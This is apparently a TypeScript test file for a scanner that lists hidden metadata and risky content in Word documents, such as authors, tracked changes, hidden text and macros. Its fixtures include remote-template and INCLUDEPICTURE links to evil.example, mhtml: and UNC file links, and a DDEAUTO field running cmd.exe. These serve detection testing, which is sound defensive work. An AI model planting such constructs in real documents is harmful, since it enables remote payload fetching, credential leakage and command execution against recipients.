import assert from "node:assert/strict";
import { test } from "node:test";
import { listTold } from "./list-told.ts";
import { packCompound, packPrinter, packWord, relations, run, word } from "./office-files.ts";

const rels = "word/_rels/document.xml.rels";
const changed = `w:id="1" w:author="Bo Teapot" w:date="2026-01-02T10:11:12Z"`;
const field = (...codes: readonly string[]) =>
  `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>${codes
    .map((code) => `<w:r><w:instrText>${code}</w:instrText></w:r>`)
    .join("")}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`;

const WORD: readonly (readonly [line: string, file: Uint8Array])[] = [
  [
    `TEL201 attachedTemplate https://evil.example/t.dotm in ${rels}`,
    packWord("", { [rels]: relations(["attachedTemplate", "https://evil.example/t.dotm"]) }),
  ],
  [
    `TEL201 oleObject file://server/share/x.docx in ${rels}`,
    packWord("", { [rels]: relations(["oleObject", "file://server/share/x.docx"]) }),
  ],
  [
    `TEL201 image file:///\\\\server\\p.png in ${rels}`,
    packWord("", { [rels]: relations(["image", "file:///\\\\server\\p.png"]) }),
  ],
  [
    `TEL201 oleObject mhtml:https://evil.example/a!x in ${rels}`,
    packWord("", { [rels]: relations(["oleObject", "mhtml:https://evil.example/a!x"]) }),
  ],
  [
    `TEL103 attachedTemplate file:///C:\\Users\\mina\\T.dotm in ${rels}`,
    packWord("", { [rels]: relations(["attachedTemplate", "file:///C:\\Users\\mina\\T.dotm"]) }),
  ],
  [
    `TEL402 hyperlink https://a.example/?fbclid=12 in ${rels}`,
    packWord("", { [rels]: relations(["hyperlink", "https://a.example/?fbclid=12"]) }),
  ],
  [
    "TEL851 comment Mina Kettle: ask the driver in word/comments.xml",
    packWord("", {
      "word/comments.xml": word(
        "comments",
        `<w:comment w:author="Mina Kettle" w:date="2026-01-02T09:00:00Z">${run("ask the driver")}</w:comment>`,
      ),
    }),
  ],
  [
    "TEL806 <w:del> her name in word/document.xml",
    packWord(`<w:p><w:del ${changed}><w:r><w:delText>her name</w:delText></w:r></w:del></w:p>`),
  ],
  [
    "TEL807 tracked changes 2 changes in word/document.xml",
    packWord(
      `<w:p><w:ins ${changed}>${run("new")}</w:ins><w:r><w:rPr><w:rPrChange ${changed}/></w:rPr></w:r></w:p>`,
    ),
  ],
  ["TEL101 author Bo Teapot in word/document.xml", packWord(`<w:p><w:ins ${changed}/></w:p>`)],
  [
    "TEL601 date of a change or remark 2026-01-02T10:11:12Z in word/document.xml",
    packWord(`<w:p><w:ins ${changed}/></w:p>`),
  ],
  [
    "TEL003 date and dateUtc UTC+03:30 in word/document.xml",
    packWord(`<w:p><w:ins ${changed} w16du:dateUtc="2026-01-02T06:41:12Z"/></w:p>`),
  ],
  [
    "TEL104 userId S::mina@tea.example::77 in word/people.xml",
    packWord("", {
      "word/people.xml": `<w15:people xmlns:w15="http://schemas.microsoft.com/office/word/2012/wordml"><w15:person w15:author="Mina"><w15:presenceInfo w15:providerId="AD" w15:userId="S::mina@tea.example::77"/></w15:person></w15:people>`,
    }),
  ],
  [
    "TEL407 rsid 00A1B2C3 and 2 more",
    packWord(`<w:p w:rsidR="00DDEEFF"/>`, {
      "word/settings.xml": word(
        "settings",
        `<w:rsids><w:rsidRoot w:val="00A1B2C3"/><w:rsid w:val="00445566"/></w:rsids>`,
      ),
    }),
  ],
  ["TEL801 hidden text secret in word/document.xml", packWord(run("secret", "<w:vanish/>"))],
  [
    "TEL801 hidden text secret in word/document.xml",
    packWord(run("secret", `<w:rStyle w:val="Tea"/>`), {
      "word/styles.xml": word(
        "styles",
        `<w:style w:styleId="Tea"><w:rPr><w:vanish/></w:rPr></w:style>`,
      ),
    }),
  ],
  [
    "TEL801 white or tiny text secret in word/document.xml",
    packWord(run("secret", `<w:color w:val="FFFFFF"/>`)),
  ],
  [
    "TEL302 DDEAUTO DDEAUTO c:\\\\x\\\\cmd.exe in word/document.xml",
    packWord(field("DDE", "AUTO c:\\\\x\\\\cmd.exe")),
  ],
  [
    "TEL201 INCLUDEPICTURE https://evil.example/p.png in word/document.xml",
    packWord(field(`INCLUDEPICTURE "https://evil`, `.example/p.png" \\d`)),
  ],
  [
    "TEL201 INCLUDETEXT https://evil.example/t in word/document.xml",
    packWord(`<w:fldSimple w:instr=" INCLUDETEXT &quot;https://evil.example/t&quot; "/>`),
  ],
  [
    "TEL103 LINK C:\\\\Users\\\\mina\\\\x.xlsx in word/document.xml",
    packWord(field(`LINK Excel.Sheet.12 "C:\\\\Users\\\\mina\\\\x.xlsx" a`)),
  ],
  [
    "TEL103 descr C:\\Users\\mina\\me.jpg in word/document.xml",
    packWord(`<pic:cNvPr name="a" descr="C:\\Users\\mina\\me.jpg"/>`),
  ],
  [
    "TEL809 srcRect a picture that was cropped in word/document.xml",
    packWord(`<a:srcRect l="25000"/>`),
  ],
  ["TEL301 macros macros in word/vbaProject.bin", packWord("", { "word/vbaProject.bin": "\0" })],
  [
    "TEL705 part what its macros do in word/vbaProject.bin",
    packWord("", { "word/vbaProject.bin": "\0" }),
  ],
  [
    "TEL301 ActiveX ActiveX in word/activeX/activeX1.bin",
    packWord("", { "word/activeX/activeX1.bin": "\0" }),
  ],
  [
    "TEL510 printer Upstairs Copier in word/printerSettings1.bin",
    packWord("", { "word/printerSettings1.bin": packPrinter("Upstairs Copier") }),
  ],
  [
    "TEL701 embedded oleObject1.bin in word/embeddings/oleObject1.bin",
    packWord("", { "word/embeddings/oleObject1.bin": packCompound("Ole10Native") }),
  ],
  [
    "TEL103 text within C:\\Users\\mina\\list.txt in word/embeddings/oleObject1.bin",
    packWord("", {
      "word/embeddings/oleObject1.bin": Buffer.concat([
        packCompound("Ole10Native"),
        Buffer.from("\u0001C:\\Users\\mina\\list.txt\0", "latin1"),
      ]),
    }),
  ],
  [
    "TEL101 Company Tea Union in docProps/app.xml",
    packWord("", {
      "docProps/app.xml": `<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/extended-properties"><Company>Tea Union</Company><Pages>3</Pages></Properties>`,
    }),
  ],
  [
    "TEL108 custom:MSIP_Label_1_SiteId 7f-8e in docProps/custom.xml",
    packWord("", {
      "docProps/custom.xml": `<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/custom-properties" xmlns:vt="urn:vt"><property name="MSIP_Label_1_SiteId"><vt:lpwstr>7f-8e</vt:lpwstr></property></Properties>`,
    }),
  ],
  [
    "TEL101 author Mina in word/tea.xml",
    packWord("", { "word/tea.xml": "<tea><author>Mina</author></tea>" }),
  ],
  [
    "TEL705 part it is not read in word/tea.dat",
    packWord("", { "word/tea.dat": Uint8Array.of(0, 1, 2, 3) }),
  ],
  [
    "TEL705 part it is not read in word/header1.xml",
    packWord("", { "word/header1.xml": "<w:hdr><w:p></w:hdr>" }),
  ],
];

for (const [line, file] of WORD)
  test(`document: ${line}`, () => {
    const told = listTold(file);
    assert.ok(told.includes(line), told.join("\n"));
  });
